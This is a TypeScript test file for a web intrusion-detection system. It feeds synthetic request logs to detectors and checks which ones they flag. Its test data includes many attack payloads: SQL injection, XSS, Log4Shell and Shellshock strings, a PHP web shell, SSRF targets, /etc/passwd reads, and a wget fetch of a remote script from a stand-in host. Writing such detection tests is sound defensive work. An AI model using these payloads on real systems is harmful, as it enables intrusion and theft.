import { beforeAll, describe, expect, it } from 'vitest'

import { type Candidate, type Detector, find, readDetectors, shownAddress } from '../../src/detection/index.ts'
import { testDatabase } from '../support/clickhouse.ts'
import { insertLogs, type LogRow } from '../support/request-logs.ts'
import { at, NOON, withDefaults } from './support.ts'

const DETECTORS = [
  'path_traversal',
  'sql_injection',
  'cross_site_scripting',
  'command_injection',
  'attack_succeeded',
  'scanner_user_agent',
  'backdoor_probe',
  'sensitive_file',
  'admin_probing',
  'sensitive_path',
  'open_proxy_probe',
  'exploit_probe',
  'trap_path',
  'user_enumeration',
  'malformed_request',
]

const database = testDatabase()
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
type Request = string | Partial<LogRow>

/** What each sends within an hour, and which detectors flag it for that. A text is a target that is answered 404, or 200 with the page of a search. */
const senders: { requests: readonly Request[]; flagged: readonly string[] }[] = []
const sends = (requests: readonly Request[], ...flagged: string[]): void => void senders.push({ requests, flagged })
const searches = (value: string, flagged: string): void => sends([`/search?q=${encodeURIComponent(value)}`], flagged)
const honest = (...targets: Request[]): void => targets.forEach((target) => sends([target]))

const rowOf = (request: Request, ip: string): LogRow => {
  const { path = '/', query = '', ...rest } = typeof request === 'string' ? { path: request } : request
  const question = path.indexOf('?')
  const [plain, asked] = question < 0 ? [path, query] : [path.slice(0, question), path.slice(question + 1)]
  const search = plain === '/search'
  return {
    timestamp: at(5),
    userAgent: FIREFOX,
    status: search ? 200 : 404,
    responseBytes: search ? 11_204 : 5_312,
    ...rest,
    path: plain,
    query: asked,
    ip,
  }
}
const addressOf = (index: number): string => `203.0.${113 + (index >> 8)}.${index & 255}`

for (const value of [
  "tent' OR 4211=4211-- -",
  "1') UNION/**/ALL/*!50000SELECT*/ 1,user(),3#",
  "x'; DROP TABLE baskets; --",
  '1 AND 5=(SELECT COUNT(*) FROM all_users t1)',
  "1'||(SELECT 'x' FROM dual WHERE 1=1 AND EXTRACTVALUE(1,CONCAT(0x5c,version())))||'",
  '1;SELECT PG_SLEEP(5)--',
  "admin'--",
  '%27%20or%201%3d1%23',
  '{"$ne": null}',
])
  searches(value, 'sql_injection')
for (const value of [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert`1`>',
  '<svg/onload=fetch(`//c.example`)>',
  "'-prompt(1)-'",
  'java\nscript:alert(document.cookie)',
  '<a href="jav&#x09;ascript:confirm(1)">',
])
  searches(value, 'cross_site_scripting')
for (const value of [
  'tent;cat /etc/hostname',
  'a|id',
  '$(wget -qO- http://198.51.100.7/s.sh)',
  '`curl 198.51.100.7`',
  '${${lower:j}ndi:${::-l}dap://198.51.100.7/x}',
  '{{7*7}}',
  "{{''.__class__.__mro__}}",
  '<?php system($_GET[0]); ?>',
  'http://169.254.169.254/latest/meta-data/',
  'gopher://127.0.0.1:6379/_INFO',
  'php://filter/convert.base64-encode/resource=index',
])
  searches(value, 'command_injection')
for (const target of [
  '/assets/..%2f..%2f..%2fvar/www/x',
  '/a/%c0%ae%c0%ae/%c0%ae%c0%ae/x',
  '/a/%252e%252e/x',
  '/static/..;/..;/x',
  '/download?file=....//....//x',
  '/download?file=..%5c..%5cwindows%5cwin.ini',
  '/search?q=%00',
])
  sends([target], 'path_traversal')
sends([{ userAgent: '${jndi:ldap://198.51.100.7:1389/a}' }], 'command_injection')
sends([{ userAgent: '() { :;}; /bin/bash -c "echo vulnerable"' }], 'command_injection')
sends([{ referer: 'https://www.marlow.example/?q=%3Cscript%3Ealert(1)%3C/script%3E' }], 'cross_site_scripting')
sends(['/search?q=%253Cscript%253Ealert(1)%253C/script%253E'], 'cross_site_scripting')
// Hints, none of which is sure by itself.
sends(['/foo?a=%3Cbr', '/foo?a=%3Cimg', '/foo?a=prompt('], 'cross_site_scripting')
sends(['/foo?a=substr(', '/foo?a=upper(', '/foo?a=%2cnull%2cnull'], 'sql_injection')

sends(['/.env', '/.git/config'], 'sensitive_file')
sends(['/wp-config.php.bak', '/backup.sql'], 'sensitive_file')
sends(['/c99.php', '/uploads/x1.php'], 'backdoor_probe')
sends(['/phpmyadmin/', '/administrator/index.php', '/pma/'], 'admin_probing', 'sensitive_path')
sends(['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'], 'exploit_probe')
sends(['/sap/bc/gui', '/nwa'], 'exploit_probe')
sends(
  [1, 2, 3, 4, 5].map((author) => `/?author=${author}`),
  'user_enumeration',
)
sends(
  ['/p/1', '/p/2'].map((path) => ({ userAgent: 'sqlmap/1.9 (https://sqlmap.org)', path, status: 200 })),
  'scanner_user_agent',
)
sends([{ method: 'CONNECT', path: 'checkip.example:443', status: 405 }], 'open_proxy_probe')
sends([{ path: 'http://checkip.example/', host: 'www.marlow.example' }], 'open_proxy_probe')
sends([{ protocol: 'HTTP/2.1', status: 400 }], 'open_proxy_probe')
sends(
  ['HELP', 'Gh0st\u00ad\u0000', '\u001b\u0084'].map((path) => ({ method: '-', path, status: 400 })),
  'malformed_request',
)
sends(['/internal/Price-Lists/2019'], 'trap_path', 'sensitive_path')
sends(['/admin/users'], 'sensitive_path')

honest(
  "/search?q=O'Brien+and+D'Arcy",
  '/search?q=%22tent%22+or+%22tarp%22',
  '/search?q=union+street+and+select+committee',
  '/search?q=select+the+best+from+our+range',
  '/search?q=rock+%27n%27+roll+--+live',
  '/search?q=5%27+6%22+(tall)',
  '/search?q=a%3Cb+and+c%3Ed',
  '/search?q=fish+%26+chips%3B+id+card',
  '/search?q=dogs;+cat+food;+python+developer;+who+else',
  '/search?q=I+%3C3+camping!',
  '/search?q=100%25+wool;+50%25+off',
  '/list?sort=asc&amp;id=5&amp;type=2&amp;set=1',
  '/login?redirect=https%3A%2F%2Fwww.marlow.example%2Faccount%3Ftab%3Dorders',
  '/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&state=e30',
  '/graphql?query=%7Bproducts(first%3A10)%7Bid%20name%7D%7D',
  '/api/items?filter=%7B%22price%22%3A%7B%22lt%22%3A10%7D%7D&fields[]=id',
  '/img?src=https://cdn.example/a.jpg&w=200',
  '/javascript:void(0)',
  '/page/%7B%7Bitem.url%7D%7D',
  '/blog/../images/logo.png',
  '/share?u=mailto:ann@example.com&t=Hello%20%E2%80%93%20world',
  '/tags/shell?page=2',
  '/.well-known/security.txt',
  '/administrative-law',
  { path: '/docs/sql/union-select-and-subqueries', status: 200 },
  { path: '/', referer: 'https://www.google.com/search?q=1%27+or+1%3D1--+union+select' },
  { path: '/', userAgent: 'curl/8.16.0' },
  {
    path: '/',
    userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0.0.0 Safari/537.36',
  },
  { path: 'https://www.marlow.example:443/p/1', host: 'www.marlow.example', status: 200 },
  { method: '-', path: '\u0016\u0003\u0001', status: 400 },
)
honest({ path: '/login', status: 401 })

// A file or a command's output comes back, unlike anything that the service shows.
const answered = (service: string, path: string, sizes: Readonly<Record<string, number>>): Partial<LogRow>[] =>
  Object.entries(sizes).map(([query, responseBytes]) => ({ service, path, query, responseBytes, status: 200 }))
sends(
  answered('blog', '/export.php', { 'file=../../../etc/passwd': 2_911, 'file=../../../etc/hosts': 204 }),
  'path_traversal',
  'attack_succeeded',
)
// The same page for all, the page with the question in it, the error's size: nothing came back.
const inVain: { requests: Partial<LogRow>[] }[] = [
  { requests: answered('shop', '/search', { 'q=;cat+/etc/passwd': 11_204, 'q=|id': 11_204 }) },
  { requests: answered('echo', '/find', { 'q=;cat+/etc/passwd': 9_036, 'q=|id': 9_010, 'q=../../etc/shadow': 9_034 }) },
  {
    requests: [
      ...answered('spa', '/../../etc/passwd', { 'a=1': 4_000 }),
      ...Array.from({ length: 9 }, (_, index) => ({
        service: 'spa',
        path: `/p/${index}`,
        responseBytes: 4_000,
        status: 200,
      })),
    ],
  },
  {
    requests: [
      ...answered('soft', '/../../etc/passwd', { 'a=1': 5_330 }),
      { service: 'soft', path: '/gone', responseBytes: 5_312, status: 404 },
    ],
  },
]
const vainFrom = senders.length
for (const { requests } of inVain)
  sends(requests, requests[0]!.path === '/search' ? 'command_injection' : 'path_traversal')

const found = new Map<string, string[]>()
let candidates: Candidate[] = []

beforeAll(async () => {
  await insertLogs(
    database.clickhouse,
    senders.flatMap(({ requests }, index) => requests.map((request) => rowOf(request, addressOf(index)))),
  )
  const files = await readDetectors()
  const detectors = DETECTORS.map((id): Detector => {
    const detector = withDefaults(files.get(id)!)
    return id === 'trap_path'
      ? { ...detector, values: { ...detector.values, paths: ['/internal/price-lists/'] } }
      : detector
  })
  candidates = (await find(database.clickhouse, detectors, { hour: NOON, runId: undefined, comment: 'test' }))
    .candidates
  for (const { address, detector } of candidates)
    found.set(shownAddress(address), [...(found.get(shownAddress(address)) ?? []), detector.id].sort())
}, 60_000)

/** What a detector says of who asked for that first. */
const saidOf = (id: string, target: string): Candidate | undefined => {
  const address = addressOf(senders.findIndex(({ requests }) => requests[0] === target))
  return candidates.find((item) => item.detector.id === id && shownAddress(item.address) === address)
}

describe('what an attack writes into a request', () => {
  const cases = senders.map((sender, index) => ({ ...sender, address: addressOf(index) }))
  const attacks = cases.filter(({ flagged }) => flagged.length > 0)
  const visits = cases.filter(({ flagged }) => flagged.length === 0)

  it('is flagged by the detector of its kind, however it is encoded and wherever it stands', () => {
    expect(attacks.length).toBeGreaterThan(50)
    const missed = attacks.filter(({ address, flagged }) => !flagged.every((id) => found.get(address)?.includes(id)))
    expect(missed).toEqual([])
  })

  it('is told from what people search for, from links gone wrong and from ordinary programs', () => {
    expect(visits.length).toBeGreaterThan(25)
    const wrong = visits.flatMap(({ address, requests }) => {
      const ids = found.get(address)?.filter((id) => id !== 'sensitive_path')
      return ids && ids.length > 0 ? [{ requests, ids }] : []
    })
    expect(wrong).toEqual([])
  })

  it('is told to have succeeded only where the answer is unlike what the service shows anyway', () => {
    const told = [...found].filter(([, ids]) => ids.includes('attack_succeeded')).map(([address]) => address)
    expect(told).toEqual([addressOf(vainFrom - 1)])
  })

  it('counts a sure sign three times as much as a hint', () => {
    expect(saidOf('path_traversal', '/a/%252e%252e/x')).toMatchObject({
      observed: 3,
      threshold: 3,
      details: { attempts: 1 },
    })
    expect(saidOf('cross_site_scripting', '/foo?a=%3Cbr')).toMatchObject({ observed: 3, details: { attempts: 0 } })
  })
})
